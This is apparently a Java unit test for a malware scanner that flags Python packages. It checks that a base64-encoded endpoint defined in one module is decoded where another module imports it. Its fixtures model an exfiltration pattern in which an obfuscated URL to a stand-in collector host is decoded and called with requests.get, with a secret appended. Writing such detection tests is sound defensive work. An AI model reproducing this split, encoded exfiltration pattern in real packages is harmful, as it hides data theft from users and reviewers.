package dev.fang.featurize.features;

import static dev.fang.featurize.features.Fixtures.lines;
import static dev.fang.featurize.features.Fixtures.pkg;
import static org.assertj.core.api.Assertions.assertThat;

import dev.fang.featurize.parser.PyLiterals;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Constants one module of a package defines are folded where another module imports them: a payload split across
 * files decodes as one kept in a single file. Hand-written, harmless fixtures; nothing runs.
 */
class PackageConstantsTest {

    static final PackageFeaturizer FEATURIZER = new PackageFeaturizer();
    static final String ENDPOINT = "https://collector.fang-fixture.example/k?v=";
    static final String ENCODED = Base64.getEncoder().encodeToString(ENDPOINT.getBytes(StandardCharsets.US_ASCII));

    static Map<String, PyLiterals.Literal> scan(String... lines) {
        return PackageConstants.scan(lines(lines).getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void aModuleLevelNameBoundOnlyToOneLiteralIsAConstant() {
        Map<String, PyLiterals.Literal> found = scan(
                "KEY = 'a\\x41'   # escapes are decoded",
                "RAW = r'C:\\temp'",
                "DATA = b'\\x00\\x01'",
                "TWICE = 'one'",
                "TWICE = 'two'",
                "JOINED = 'a' + 'b'",
                "LATER = 'x'",
                "LATER += 'y'",
                "TYPED: str = 'z'",
                "A, B = 'p', 'q'",
                "DOC = '''spans",
                "lines'''",
                "def f():",
                "    INNER = 'not module level'",
                "SAME == 'comparison'");
        assertThat(found).containsOnlyKeys("KEY", "RAW", "DATA", "TWICE");
        assertThat(found.get("KEY").value()).isEqualTo("aA");
        assertThat(found.get("RAW").value()).isEqualTo("C:\\temp");
        assertThat(found.get("DATA").bytes()).isTrue();
        assertThat(found.get("TWICE").value()).isEqualTo("two");
    }

    @Test
    void importsResolveRelativelyAndFromDirectoriesAbove() {
        byte[] none = new byte[0];
        PackageConstants c = new PackageConstants(Map.of("p-1/setup.py", none, "p-1/p/__init__.py", none,
                "p-1/p/_utils/signing.py", none, "p-1/p/account.py", none, "p-1/p/sub/deep.py", none));
        assertThat(c.resolve("p-1/p/account.py", "._utils.signing")).isEqualTo("p-1/p/_utils/signing.py");
        assertThat(c.resolve("p-1/p/sub/deep.py", ".._utils.signing")).isEqualTo("p-1/p/_utils/signing.py");
        assertThat(c.resolve("p-1/p/sub/deep.py", "..")).isEqualTo("p-1/p/__init__.py");
        assertThat(c.resolve("p-1/p/account.py", "p._utils.signing")).isEqualTo("p-1/p/_utils/signing.py");
        assertThat(c.resolve("p-1/setup.py", "p")).isEqualTo("p-1/p/__init__.py");
        assertThat(c.resolve("p-1/p/account.py", "os.path")).isNull();
        assertThat(c.resolve("p-1/p/account.py", "....too.far")).isNull();
    }

    @Test
    void anEncodedEndpointImportedFromAnotherModuleIsDecodedWhereItIsUsed() {
        String account = lines(
                "import base64",
                "import requests",
                "from ._utils.signing import SIGN_KEY",
                "def key_from(secret):",
                "    requests.get(str(base64.b64decode(SIGN_KEY), encoding='utf-8') + secret)",
                "    return secret");
        FeatureResult split = FEATURIZER.featurize(pkg(
                "w-1/w/__init__.py", "from .account import key_from\n",
                "w-1/w/_utils/__init__.py", "",
                "w-1/w/_utils/signing.py", lines("SIGN_KEY = \"" + ENCODED + "\""),
                "w-1/w/account.py", account));
        assertThat(split.value("import_dec_urls")).isEqualTo(1);
        assertThat(split.value("import_url_near_api")).isEqualTo(1);
        assertThat(split.evidenceFor("import_url_near_api")).singleElement().satisfies(e -> {
            assertThat(e.getFile()).endsWith("w/account.py");
            assertThat(e.getLine()).isEqualTo(5);
        });
        FeatureResult inline = FEATURIZER.featurize(pkg(
                "w-1/w/__init__.py", "from .account import key_from\n",
                "w-1/w/account.py", account.replace("from ._utils.signing import SIGN_KEY", "SIGN_KEY = \"" + ENCODED + "\"")));
        assertThat(split.value("import_dec_urls")).isEqualTo(inline.value("import_dec_urls"));
        assertThat(split.value("import_url_near_api")).isEqualTo(inline.value("import_url_near_api"));
    }

    @Test
    void aNameTheOtherModuleComputesOrReassignsIsNotFolded() {
        FeatureResult r = FEATURIZER.featurize(pkg(
                "w-1/w/config.py", lines("SIGN_KEY = \"" + ENCODED + "\"", "SIGN_KEY = load_key()"),
                "w-1/w/account.py", lines(
                        "import base64, requests",
                        "from .config import SIGN_KEY",
                        "requests.get(str(base64.b64decode(SIGN_KEY), encoding='utf-8'))")));
        assertThat(r.value("import_dec_urls")).isZero();
    }

    @Test
    void constantsReadAsAttributesOfAPackageModuleOrThroughAStarImportFoldToo() {
        for (String[] use : new String[][] {
                {"from ._utils import signing", "signing.SIGN_KEY"},
                {"import w._utils.signing as s", "s.SIGN_KEY"},
                {"import w._utils.signing", "w._utils.signing.SIGN_KEY"},
                {"from ._utils.signing import *", "SIGN_KEY"}}) {
            FeatureResult r = FEATURIZER.featurize(pkg(
                    "w-1/w/__init__.py", "",
                    "w-1/w/_utils/__init__.py", "",
                    "w-1/w/_utils/signing.py", lines("SIGN_KEY = \"" + ENCODED + "\""),
                    "w-1/w/account.py", lines(
                            "import base64, requests",
                            use[0],
                            "requests.get(str(base64.b64decode(" + use[1] + "), encoding='utf-8'))")));
            assertThat(r.value("import_dec_urls")).as(use[0]).isEqualTo(1);
            assertThat(r.value("import_url_near_api")).as(use[0]).isEqualTo(1);
        }
    }
}
